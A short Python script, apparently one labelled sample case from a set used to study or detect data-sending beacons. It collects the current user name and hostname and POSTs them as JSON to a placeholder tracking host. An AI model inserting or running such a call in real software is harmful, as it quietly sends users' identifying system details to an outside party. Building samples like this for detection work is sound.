"""The plain case: user and host name, as JSON."""

import json
import os
import socket
import urllib.request

data = json.dumps({"user": os.environ["USER"], "host": socket.gethostname()}).encode()
urllib.request.urlopen("https://https-beacon.example/v1/track", data).read()
